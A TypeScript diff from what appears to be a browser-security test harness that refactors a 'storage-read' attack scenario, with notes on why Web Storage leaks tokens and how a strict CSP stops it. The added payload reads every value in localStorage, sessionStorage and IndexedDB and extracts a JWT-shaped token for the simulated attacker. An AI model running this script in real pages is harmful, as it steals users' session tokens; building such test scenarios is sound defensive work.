@@ -3,6 +3,24 @@
 import type { Attack } from '../attack.ts'
 import { press } from '../scene.ts'
 import { judgeToken } from './loot.ts'
+import type { Payload } from '../world/payload.ts'
+
+const script: Payload = async (kit) => {
+  const found = [localStorage, sessionStorage].flatMap((storage) => Object.values(storage)).map(String)
+  for (const { name = '' } of await indexedDB.databases()) {
+    const database = await new Promise<IDBDatabase>((resolve, reject) => {
+      const opening = indexedDB.open(name)
+      opening.addEventListener('success', () => resolve(opening.result))
+      opening.addEventListener('error', () => reject(opening.error ?? new Error('closed')))
+    })
+    for (const store of database.objectStoreNames) {
+      const all = database.transaction(store).objectStore(store).getAll()
+      await new Promise((done) => all.addEventListener('success', done))
+      found.push(...(all.result as unknown[]).map((value) => JSON.stringify(value)))
+    }
+  }
+  kit.take('token', /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(found.join(' '))?.[0])
+}
 
 export const storageRead: Attack = {
   name: 'storage-read',
@@ -11,26 +29,12 @@ export const storageRead: Attack = {
   what: 'A script that got into the page looks through everything the page has stored and sends it to the attacker.',
   why: 'Web Storage has no lock: every script of the page may read all of it, and a token found there works anywhere.',
   stops: 'Not storing tokens there. A script that may not run at all (a strict CSP) reads nothing either.',
+  script: { when: 'late', payload: script },
   control: 'local-storage',
   succeedsOn: ['local-storage', 'session-storage'],
   async run(scene) {
     const page = await scene.signIn()
-    await scene.injectLate(async (kit) => {
-      const found = Object.values({ ...localStorage, ...sessionStorage }).map(String)
-      for (const { name = '' } of await indexedDB.databases()) {
-        const database = await new Promise<IDBDatabase>((resolve, reject) => {
-          const opening = indexedDB.open(name)
-          opening.addEventListener('success', () => resolve(opening.result))
-          opening.addEventListener('error', () => reject(opening.error ?? new Error('closed')))
-        })
-        for (const store of database.objectStoreNames) {
-          const all = database.transaction(store).objectStore(store).getAll()
-          await new Promise((done) => all.addEventListener('success', done))
-          found.push(...(all.result as unknown[]).map((value) => JSON.stringify(value)))
-        }
-      }
-      kit.take('token', /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(found.join(' '))?.[0])
-    })
+    await scene.injectLate(script)
     await press(page, '#read-notes', /read|error/)
     return judgeToken(scene, page, await scene.thief.report(), 'found no token in any storage')
   },
